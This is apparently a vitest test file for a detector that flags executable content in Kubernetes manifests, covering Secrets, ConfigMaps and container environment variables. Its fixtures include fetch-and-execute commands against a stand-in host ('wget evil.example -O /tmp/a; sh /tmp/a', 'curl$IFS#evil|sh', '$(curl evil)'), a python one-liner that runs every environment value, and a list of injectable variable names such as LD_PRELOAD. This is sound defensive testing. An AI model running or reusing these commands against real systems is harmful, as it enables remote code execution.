import { generateKeyPairSync } from 'node:crypto'
import { tokensOf } from '@fairlead/contract/json/json-pointer'
import { describe, expect, it } from 'vitest'
import { mayRun } from './may-run.ts'

const certificate = `-----BEGIN CERTIFICATE-----
MIIBLDCB36ADAgECAhQL5XDnO99gJ6RF0wddr97b2VLRqzAFBgMrZXAwDDEKMAgG
A1UEAwwBYTAeFw0yNjExMjQxNDEyMTBaFw0yNjExMjUxNDEyMTBaMAwxCjAIBgNV
BAMMAWEwKjAFBgMrZXADIQBY0Ys6FpnM8oWULg6Ipx6rjh+SjCGIQn+DXfUctNnd
HqNTMFEwHQYDVR0OBBYEFLzhuO9iaUje8PDh5vT8UhLQm1l2MB8GA1UdIwQYMBaA
FLzhuO9iaUje8PDh5vT8UhLQm1l2MA8GA1UdEwEB/wQFMAMBAf8wBQYDK2VwA0EA
0SRKMYVbUOdaOyLoQZKtB2jXCMJUBpeJ/N5bPalFuMyFFQarC+VH3OR00BZttqbc
KJK6i9nrU/uVRH5HgnsjBA==
-----END CERTIFICATE-----
`

const runs = (object: unknown, path: string, text = 'x') => mayRun(object, tokensOf(path), text)

describe('a text may run', () => {
  it.each(['command', 'args', 'image', 'script', 'scripts', 'source', 'entrypoint', 'exec', 'lifecycle'])(
    'under %s, in whatever kind',
    (key) => {
      expect(runs({ kind: 'Thing' }, `/spec/${key}/0`)).toBe(true)
      expect(runs(undefined, `/${key}`)).toBe(true)
      expect(runs({ kind: 'Thing' }, `/spec/x${key}/0`)).toBe(false)
    },
  )

  it('in the data of a ConfigMap, and nowhere else of it', () => {
    for (const field of ['data', 'binaryData']) expect(runs({ kind: 'ConfigMap' }, `/${field}/a`)).toBe(true)
    expect(runs({ kind: 'ConfigMap' }, '/metadata/annotations/a')).toBe(false)
    expect(runs({ kind: 'ConfigMap' }, '')).toBe(false)
    expect(runs({ kind: 'Thing' }, '/data/a')).toBe(false)
    expect(runs('ConfigMap', '/data/a')).toBe(false)
    expect(runs(undefined, '/data/a')).toBe(false)
  })
})

describe('a value of a Secret may run', () => {
  const secret = { kind: 'Secret', type: 'Opaque' }
  const inData = (text: string, { key = 'it', of = secret as object } = {}) =>
    runs(of, `/data/${key}`, Buffer.from(text).toString('base64'))

  it.each([
    'sh',
    'bash',
    'py',
    'rb',
    'pl',
    'php',
    'js',
    'mjs',
    'cjs',
    'lua',
    'awk',
    'ps1',
    'bat',
    'cmd',
    'groovy',
    'SH',
  ])('by its name: x.%s', (end) => {
    expect(inData('a', { key: `x.${end}` })).toBe(true)
    expect(inData('a', { key: `x${end}` })).toBe(false)
    expect(inData('a', { key: `x.${end}.txt` })).toBe(false)
  })

  it.each(['#!/bin/sh', '\x7fELF', 'MZ'])('by how it begins: %j', (begin) => {
    expect(inData(begin)).toBe(true)
    expect(inData(begin, { of: { kind: 'Secret', type: 'kubernetes.io/tls' } })).toBe(true)
    expect(inData(`x${begin}`)).toBe(false)
  })

  it('by the words in it, whatever type it says it is of', () => {
    expect(inData('wget evil.example')).toBe(true)
    expect(inData('wget evil.example', { of: { kind: 'Secret' } })).toBe(true)
    expect(inData('wget evil.example', { of: { kind: 'Secret', type: 'kubernetes.io/tls' } })).toBe(true)
    expect(inData('wget evil.example', { of: { kind: 'Secret', type: 'example.com/any' } })).toBe(true)
    expect(inData(' password\n')).toBe(false)
    expect(inData('password')).toBe(false)
  })

  it('as it stands in stringData, which is no base64', () => {
    expect(runs(secret, '/stringData/it', 'wget evil.example')).toBe(true)
    expect(runs(secret, '/stringData/it', Buffer.from('wget evil.example').toString('base64'))).toBe(false)
    expect(runs(secret, '/metadata/annotations/it', 'wget evil.example')).toBe(false)
  })

  const key = generateKeyPairSync('ed25519').privateKey.export({ type: 'pkcs8', format: 'pem' }).toString()
  const script = '\n-----BEGIN A-----\nwget evil.example -O /tmp/a\nsh /tmp/a\n-----END A-----\n'

  it('but not where it is keys, certificates or JSON', () => {
    for (const text of [key, ` \n${key}\n${certificate}\n`, certificate.trim()]) expect(inData(text)).toBe(false)
    expect(inData('{ "a": 1 }')).toBe(false)
    expect(inData('[1, 2]')).toBe(false)
  })

  it('where pods run it, but for keys', () => {
    const run = (text: string) => mayRun(secret, tokensOf('/data/it'), Buffer.from(text).toString('base64'), isRunKey)
    const isRunKey = (name: string) => name === 'it'
    expect(run('curl$IFS#evil|sh')).toBe(true)
    expect(run('{"a":"$(curl evil)"}')).toBe(true)
    expect(run(key)).toBe(false)
    expect(mayRun(secret, tokensOf('/data/other'), '', isRunKey)).toBe(false)
    expect(mayRun(secret, tokensOf('/data'), 'eA==', (name) => name === '')).toBe(true)
    expect(mayRun(secret, tokensOf('/metadata/annotations/it'), 'x', isRunKey)).toBe(false)
    expect(mayRun({ kind: 'Thing' }, tokensOf('/data/it'), 'x', isRunKey)).toBe(false)
  })

  it.each([
    ['a word in front of a key', `reboot\n${key}`],
    ['a word behind a key', `${key}\nreboot`],
    ['a script between marks', script],
    ['a script between marks, a key in front of it', `${key}${script}`],
    ['a mark that no other ends', '-----BEGIN A-----\nreboot\n-----END B-----\n'],
    ['a text of JSON', '"wget evil.example"'],
    ['JSON that was cut', '{ "a": 1'],
  ])('where there is more than that: %s', (_, text) => {
    expect(inData(text)).toBe(true)
  })

  it('told in no time of many blocks that end in something else', () => {
    const begins = '-----BEGIN A-----\n'.repeat(60_000)
    const began = performance.now()
    for (const text of [`${key.repeat(2_000)}$`, script.repeat(5_000), `${begins}$`]) expect(inData(text)).toBe(true)
    expect(performance.now() - began).toBeLessThan(2_000)
  })
})

describe('a variable may run', () => {
  const pod = (variable: object, more: object = {}) => ({
    kind: 'Pod',
    spec: { containers: [{ name: 'a', ...more, env: [variable] }] },
  })
  const at = '/spec/containers/0/env/0/value'

  it.each([
    ...['BASH_ENV', 'ENV', 'PROMPT_COMMAND', 'LD_PRELOAD', 'LD_AUDIT', 'NODE_OPTIONS', 'PYTHONSTARTUP', 'PYTHONPATH'],
    ...['PERL5OPT', 'RUBYOPT', 'JAVA_TOOL_OPTIONS', 'GIT_SSH_COMMAND', 'PATH'],
  ])('by its name: %s', (name) => {
    expect(runs(pod({ name }), at)).toBe(true)
    expect(runs(pod({ name: `X${name}` }), at)).toBe(false)
    expect(runs(pod({ name: `${name}X` }), at)).toBe(false)
  })

  it('in a container that a shell starts', () => {
    expect(runs(pod({ name: 'A' }, { command: ['/bin/sh'] }), at)).toBe(true)
    expect(runs(pod({ name: 'A' }, { command: ['serve'] }), at)).toBe(false)
    expect(runs(pod({}, { command: ['serve'] }), at)).toBe(false)
    expect(runs(pod({ name: ['PATH'] }), at)).toBe(false)
  })

  it.each<[string, string[], object[]]>([
    ['it starts', ['/app', '$(A)'], []],
    ['another variable that it starts has in it', ['/app', '$(B)'], [{ name: 'B', value: '-x $(A)' }]],
    ['a shell that a variable names', ['$(S)', '-c', 'x'], [{ name: 'S', value: 'sh' }]],
    ['code takes by its name', ['python3', 'run.py', 'A'], []],
    ['code may take', ['python3', '-c', 'import os; [os.system(v) for v in os.environ.values()]'], []],
  ])('that %s', (_, command, more) => {
    const of = { kind: 'Pod', spec: { containers: [{ name: 'a', command, env: [{ name: 'A' }, ...more] }] } }
    expect(runs(of, at)).toBe(true)
    expect(runs({ kind: 'Pod', spec: { containers: [{ ...of.spec.containers[0], command: ['/app'] }] } }, at)).toBe(
      false,
    )
  })

  it('wherever a kind keeps its pods', () => {
    const deployment = (container: object) => ({
      kind: 'Deployment',
      spec: { template: { spec: { containers: [container] } } },
    })
    const deep = '/spec/template/spec/containers/0/env/0/value'
    expect(runs(deployment({ env: [{ name: 'PATH' }] }), deep)).toBe(true)
    expect(runs(deployment({ command: ['sh'], env: [{ name: 'A' }] }), deep)).toBe(true)
    expect(runs(deployment({ command: ['serve'], env: [{ name: 'A' }] }), deep)).toBe(false)
  })

  it('and nothing else of it, nor what only looks like one', () => {
    expect(runs(pod({ name: 'PATH' }), '/spec/containers/0/env/0/note')).toBe(false)
    expect(runs({ kind: 'Pod', spec: { vars: [{ name: 'PATH' }] } }, '/spec/vars/0/value')).toBe(false)
    expect(runs({ kind: 'Pod' }, '/env/0/value')).toBe(false)
    expect(runs({ kind: 'Pod' }, '/spec/env/0/value')).toBe(false)
    expect(runs(pod({ name: 1 }, { command: ['serve', '$(1)'] }), at)).toBe(false)
  })
})
